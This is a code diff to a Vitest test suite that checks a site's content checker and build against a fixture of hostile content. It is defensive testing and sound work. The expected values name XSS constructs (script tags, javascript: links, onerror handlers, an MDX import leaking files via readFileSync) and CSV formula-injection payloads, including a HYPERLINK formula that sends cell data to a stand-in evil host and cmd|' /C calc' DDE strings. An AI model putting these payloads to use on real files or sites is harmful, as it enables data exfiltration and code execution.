@@ -11,7 +11,7 @@ import { fromHtml } from 'hast-util-from-html';
 import ICAL from 'ical.js';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { checkContent } from '../../scripts/lib/read-content';
+import { checkContentTree } from '../../src/pipeline/check-content';
 import { serve } from '../../scripts/serve.mjs';
 import { formatProblem } from '../../src/lib/content-errors';
 import { FIGURE_COLUMNS } from '../../src/lib/figure-data';
@@ -26,7 +26,7 @@ describe('the content check on hostile content', () => {
   beforeAll(() => {
     root = mkdtempSync(join(tmpdir(), 'hostile-check-'));
     writeHostileSite(root, { withRejected: true });
-    problems = checkContent(root).problems.map(formatProblem);
+    problems = checkContentTree(root).problems.map(formatProblem);
   });
   afterAll(() => rmSync(root, { recursive: true, force: true }));
 
@@ -43,7 +43,7 @@ describe('the content check on hostile content', () => {
   });
 
   it('names the line and the construct of each attack in a Markdown body', () => {
-    const found = of('content/figures/hostile-body.md').map((p) => p.replace(/^content\/figures\/hostile-body\.md: body: /, '').replace(/: (remove it|link to).*$/, ''));
+    const found = of('content/figures/hostile-body.md').map((p) => p.replace(/^content\/figures\/hostile-body\.md: /, '').replace(/: (remove it|link to).*$/, ''));
     expect(found).toEqual([
       'line 19: a <script> element',
       'line 21: a javascript: address in a Markdown link',
@@ -64,17 +64,17 @@ describe('the content check on hostile content', () => {
   });
 
   it('names imports, exports, expressions and unsafe JSX in an MDX body, line by line', () => {
-    const found = of('content/background/hostile-mdx.mdx').map((p) => p.replace(/^content\/background\/hostile-mdx\.mdx: body: /, '').replace(/\): .*$/, ')').replace(/(\}|>|element|<a>|<img>): .*$/, '$1'));
+    const found = of('content/background/hostile-mdx.mdx').map((p) => p.replace(/^content\/background\/hostile-mdx\.mdx: /, ''));
     expect(found).toEqual([
-      "line 7: an import or export (import { readFileSync } from 'node:fs')",
-      expect.stringMatching(/^line 9: an import or export \(export const leak = readFileSync/),
-      'line 13: an expression {leak}',
-      'line 15: an expression {leak}',
-      'line 17: a <script> element',
-      'line 19: a javascript: address in href= on <a>',
-      'line 21: an event handler attribute (onerror=) on <img>',
-      'line 23: a <iframe> element',
-      'line 25: an expression in the attributes of <Figure>',
+      expect.stringMatching(/^line 7: this line starts with "import" or "export", which \.mdx files read as code/),
+      expect.stringMatching(/^line 9: this line starts with "import" or "export", which \.mdx files read as code/),
+      expect.stringMatching(/^line 13: \{leak\}: in \.mdx files braces \{ \} hold code/),
+      expect.stringMatching(/^line 15: \{leak\}: in \.mdx files braces \{ \} hold code/),
+      expect.stringMatching(/^line 17: a <script> element/),
+      expect.stringMatching(/^line 19: a javascript: address in href= on <a>/),
+      expect.stringMatching(/^line 21: an event handler attribute \(onerror=\) on <img>/),
+      expect.stringMatching(/^line 23: a <iframe> element/),
+      expect.stringMatching(/^line 25: <Figure> has no property "title"/),
     ]);
   });
 
@@ -179,7 +179,7 @@ describe('the hostile build', () => {
     expect(header).toEqual([...FIGURE_COLUMNS]);
     const hostile = Object.fromEntries(header.map((c, i) => [c, rows.find((r) => r[0] === 'hostile-csv')![i]!]));
     expect(hostile.title).toBe(`'=HYPERLINK("${EVIL}?"&A1,"Source")`);
-    expect(hostile.value).toBe('-5');
+    expect(hostile.value).toBe('-2');
     expect(hostile.display).toBe("'-2+3");
     expect(hostile.scope).toBe("'+cmd|' /C calc'!A0");
     expect(hostile.method).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
